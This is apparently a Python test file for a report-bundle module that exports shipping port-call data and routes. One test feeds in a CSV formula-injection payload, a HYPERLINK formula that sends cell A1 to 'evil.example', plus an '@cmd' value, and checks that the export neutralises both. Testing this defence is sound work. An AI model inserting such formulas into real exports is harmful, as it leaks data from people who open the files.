"""tumen.report.bundle: the download bundle is deterministic and safe to open in a spreadsheet."""

import csv
import io
import json
import zipfile
from types import SimpleNamespace

import numpy as np

from tumen import paths
from tumen.report import bundle

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Angara")'


class _Cfg(SimpleNamespace):
    def notebook(self, name):
        raise KeyError(name)


def _cfg(tmp_path):
    (tmp_path / "build/t/results").mkdir(parents=True)
    return _Cfg(variant="t", dirs=paths.variant_dirs("t"), notebooks=(), report={"title": "T"})


def test_zip_is_deterministic_and_sorted():
    files = {"b.csv": b"x\n", "a.json": b"{}\n", "README.txt": b"r\n"}
    one, two = bundle.to_zip(files), bundle.to_zip(dict(reversed(list(files.items()))))
    assert one == two
    with zipfile.ZipFile(io.BytesIO(one)) as zf:
        assert zf.namelist() == ["README.txt", "a.json", "b.csv"]
        assert {i.date_time for i in zf.infolist()} == {bundle.ZIP_TIME}
        assert zf.read("b.csv") == b"x\n"


def test_port_calls_from_a_hostile_ship_are_neutralised(tmp_path):
    cfg = _cfg(tmp_path)
    (tmp_path / "build/t/results/port_calls.csv").write_text(
        'call_id,vessel,containers_min\n1,"' + EVIL.replace('"', '""') + '",-3\n2,@cmd,247\n'
    )
    (tmp_path / "build/t/results/01_x.json").write_text(
        json.dumps({"x.n": {"value": 1, "unit": "", "description": "d"}})
    )
    files = bundle.contents(cfg, tmp_path, record=b"{}\n")
    assert sorted(files) == ["README.txt", "port_calls.csv", "provenance.json", "results.json"]
    rows = list(csv.reader(io.StringIO(files["port_calls.csv"].decode(), newline="")))
    assert rows == [
        ["call_id", "vessel", "containers_min"],
        ["1", "'" + EVIL, "-3"],
        ["2", "'@cmd", "247"],
    ]
    assert json.loads(files["results.json"])["x.n"]["notebook"] == "01_x"
    assert bundle.to_zip(files) == bundle.to_zip(bundle.contents(cfg, tmp_path, record=b"{}\n"))


def test_routes_geojson():
    route = SimpleNamespace(
        lat=np.array([42.25, 42.5, np.nan]), lon=np.array([130.1, 131.0, 1.0]), length_km=123.456
    )
    gj = bundle.routes_geojson({"Sea, A → B": route, "none": None})
    assert gj["type"] == "FeatureCollection" and len(gj["features"]) == 1
    f = gj["features"][0]
    assert f["properties"] == {"name": "Sea, A → B", "length_km": 123.5}
    assert f["geometry"] == {"type": "LineString", "coordinates": [[130.1, 42.25], [131.0, 42.5]]}
